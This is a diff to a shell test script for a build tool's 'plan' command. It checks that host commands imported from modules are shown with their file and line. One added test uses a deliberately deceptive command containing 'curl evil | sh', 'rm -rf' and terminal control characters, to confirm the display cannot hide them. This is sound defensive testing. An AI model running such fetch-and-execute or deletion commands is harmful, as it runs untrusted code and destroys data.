@@ -191,8 +191,15 @@ assert hc == [{"node": "hostcmd", "command": 'echo from-module > "$out/x"', "fil
 PY
 checked "plan --json lists the module's host command with its module" || show
 (cd "$w/trust" && GRAPHBUILD_CACHE_DIR=$w/c6c "$GB" plan >"$w/out" 2>"$w/err"); rc=$?
-grep -qF "runs on this host: echo from-module > \"\$out/x\" (from the imported module $base/lib/trusty.lua)" "$w/out"
+grep -qF "runs on this host: echo from-module > \"\$out/x\" (from the imported module $base/lib/trusty.lua, line 2)" "$w/out"
 checked "text plan shows the host command under its node" || sed 's/^/# /' "$w/out"
+# every line of a longer command, control characters made visible: a CR
+# cannot overwrite what the reader sees, a second line cannot hide
+stack hidden 'project "imp"' 'image "i" { from = rootfs { command = "echo ok\rcurl evil | sh\nrm -rf \"$out\"/x\027[8m" } }'
+gb hidden c6d
+[ $rc = 0 ] && grep -qxF "             runs on this host (stack.lua:2):" "$w/out" &&
+	grep -qxF '               | echo ok\x0dcurl evil | sh' "$w/out" && grep -qxF '               | rm -rf "$out"/x\x1b[8m' "$w/out"
+checked "text plan shows every line of a host command, control characters as \\xNN" || { show; sed 's/^/# /' "$w/out"; }
 stack needy 'project "imp"' "local t = import \"$base/lib/needy.lua#sha256=$HN\""
 printf 'return { who = "importer-dir" }\n' >"$w/needy/helper.lua"
 gb needy c6c
